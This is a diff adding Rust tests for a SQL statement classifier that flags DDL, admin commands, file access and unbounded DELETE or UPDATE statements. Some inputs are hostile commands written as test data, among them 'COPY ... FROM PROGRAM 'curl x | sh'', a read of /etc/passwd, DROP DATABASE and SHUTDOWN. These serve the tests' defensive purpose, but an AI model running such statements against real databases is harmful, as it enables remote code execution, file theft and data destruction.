@@ -0,0 +1,234 @@
+use clarg::sql::{StatementKind, classify};
+
+fn one(sql: &str) -> (String, StatementKind, Option<String>, bool) {
+    let mut statements = classify(sql);
+    assert_eq!(statements.len(), 1, "{sql}");
+    let s = statements.remove(0);
+    (s.verb, s.kind, s.object, s.unbounded)
+}
+
+fn verb_kind(sql: &str) -> (String, StatementKind) {
+    let (verb, kind, ..) = one(sql);
+    (verb, kind)
+}
+
+fn vk(verb: &str, kind: StatementKind) -> (String, StatementKind) {
+    (verb.to_string(), kind)
+}
+
+// ============================================================================
+// DDL
+// ============================================================================
+
+#[test]
+fn test_drop_and_create() {
+    assert_eq!(
+        one("DROP TABLE IF EXISTS users CASCADE"),
+        (
+            "DROP TABLE".to_string(),
+            StatementKind::Ddl,
+            Some("users".to_string()),
+            false
+        )
+    );
+    assert_eq!(
+        verb_kind("drop database shop"),
+        vk("DROP DATABASE", StatementKind::Ddl)
+    );
+    assert_eq!(
+        verb_kind("CREATE OR REPLACE TEMP VIEW v AS SELECT 1"),
+        vk("CREATE VIEW", StatementKind::Ddl)
+    );
+    assert_eq!(
+        verb_kind("CREATE UNIQUE INDEX i ON t (a)"),
+        vk("CREATE INDEX", StatementKind::Ddl)
+    );
+    assert_eq!(
+        one("ALTER TABLE ONLY public.t ADD c int").2,
+        Some("public.t".to_string())
+    );
+}
+
+#[test]
+fn test_truncate() {
+    assert_eq!(one("TRUNCATE TABLE logs").2, Some("logs".to_string()));
+    assert_eq!(
+        verb_kind("truncate logs"),
+        vk("TRUNCATE", StatementKind::Ddl)
+    );
+}
+
+#[test]
+fn test_user_and_role_statements_are_admin() {
+    assert_eq!(
+        verb_kind("CREATE USER bob"),
+        vk("CREATE USER", StatementKind::Admin)
+    );
+    assert_eq!(
+        verb_kind("DROP ROLE IF EXISTS r"),
+        vk("DROP ROLE", StatementKind::Admin)
+    );
+    assert_eq!(
+        verb_kind("ALTER SYSTEM SET work_mem = '1GB'"),
+        vk("ALTER SYSTEM", StatementKind::Admin)
+    );
+    assert_eq!(
+        verb_kind("GRANT ALL ON t TO bob"),
+        vk("GRANT", StatementKind::Admin)
+    );
+}
+
+// ============================================================================
+// DML
+// ============================================================================
+
+#[test]
+fn test_delete_and_update_without_where() {
+    assert_eq!(
+        one("DELETE FROM orders"),
+        (
+            "DELETE".to_string(),
+            StatementKind::Dml,
+            Some("orders".to_string()),
+            true
+        )
+    );
+    assert!(!one("DELETE FROM orders WHERE id = 1").3);
+    assert!(one("UPDATE users SET admin = true").3);
+    assert!(!one("update users set admin = true where id = 2").3);
+}
+
+#[test]
+fn test_where_inside_subquery_or_string_does_not_bound() {
+    assert!(one("UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)").3);
+    assert!(one("UPDATE t SET note = 'where x'").3);
+    assert!(
+        !one("WITH old AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM old)").3
+    );
+}
+
+#[test]
+fn test_insert_targets() {
+    assert_eq!(one("INSERT INTO t (a) VALUES (1)").2, Some("t".to_string()));
+    assert_eq!(
+        verb_kind("REPLACE INTO t VALUES (1)"),
+        vk("REPLACE", StatementKind::Dml)
+    );
+    assert_eq!(
+        verb_kind("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x"),
+        vk("INSERT", StatementKind::Dml)
+    );
+}
+
+#[test]
+fn test_data_modifying_with_queries() {
+    let statements = classify("WITH x AS (DELETE FROM t RETURNING *) SELECT 1");
+    let verbs: Vec<_> = statements
+        .iter()
+        .map(|s| (s.verb.as_str(), s.kind, s.unbounded))
+        .collect();
+    assert_eq!(
+        verbs,
+        vec![
+            ("DELETE", StatementKind::Dml, true),
+            ("SELECT", StatementKind::Read, false)
+        ]
+    );
+    let statements = classify(
+        "WITH a (id) AS (SELECT 1), b AS MATERIALIZED (UPDATE t SET x = 1 WHERE id = 2 RETURNING id) SELECT * FROM b",
+    );
+    assert_eq!(statements[0].verb, "UPDATE");
+    assert!(!statements[0].unbounded);
+    assert_eq!(statements.len(), 2);
+}
+
+// ============================================================================
+// Admin: server-side files and programs
+// ============================================================================
+
+#[test]
+fn test_copy_program_and_outfile() {
+    assert_eq!(
+        verb_kind("COPY t FROM PROGRAM 'curl x | sh'"),
+        vk("COPY PROGRAM", StatementKind::Admin)
+    );
+    assert_eq!(
+        verb_kind("COPY t FROM '/tmp/x.csv'"),
+        vk("COPY", StatementKind::Dml)
+    );
+    assert_eq!(
+        verb_kind("SELECT * FROM users INTO OUTFILE '/tmp/u.csv'"),
+        vk("SELECT INTO OUTFILE", StatementKind::Admin)
+    );
+}
+
+#[test]
+fn test_load_data_local_infile() {
+    let statements = classify("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t");
+    assert_eq!(statements[0].kind, StatementKind::Dml);
+    assert_eq!(statements[0].file.as_deref(), Some("/etc/passwd"));
+    assert_eq!(
+        verb_kind("LOAD 'auto_explain'"),
+        vk("LOAD", StatementKind::Admin)
+    );
+}
+
+#[test]
+fn test_attach_and_pragma() {
+    let statements = classify("ATTACH DATABASE '/tmp/other.db' AS other");
+    assert_eq!(statements[0].kind, StatementKind::Admin);
+    assert_eq!(statements[0].file.as_deref(), Some("/tmp/other.db"));
+    assert_eq!(statements[0].object.as_deref(), Some("other"));
+    assert_eq!(
+        verb_kind("PRAGMA writable_schema = ON"),
+        vk("PRAGMA", StatementKind::Admin)
+    );
+}
+
+#[test]
+fn test_global_settings() {
+    assert_eq!(
+        verb_kind("SET GLOBAL general_log = 1").1,
+        StatementKind::Admin
+    );
+    assert_eq!(
+        verb_kind("SET search_path TO app").1,
+        StatementKind::Session
+    );
+    assert_eq!(verb_kind("SHUTDOWN").1, StatementKind::Admin);
+}
+
+// ============================================================================
+// Reads and sessions
+// ============================================================================
+
+#[test]
+fn test_reads() {
+    for sql in [
+        "SELECT 1",
+        "show tables",
+        "EXPLAIN SELECT * FROM t",
+        "VALUES (1)",
+        "TABLE t",
+    ] {
+        assert_eq!(verb_kind(sql).1, StatementKind::Read, "{sql}");
+    }
+    // EXPLAIN ANALYZE runs the statement
+    assert_eq!(
+        verb_kind("EXPLAIN ANALYZE DELETE FROM t"),
+        vk("DELETE", StatementKind::Dml)
+    );
+}
+
+#[test]
+fn test_sessions() {
+    for sql in [
+        "BEGIN",
+        "COMMIT",
+        "ROLLBACK",
+        "USE shop",
+        "START TRANSACTION",
+    ] {
+        assert_eq!(verb_kind(sql).1, StatementKind::Session, "{sql}");
+    }
+}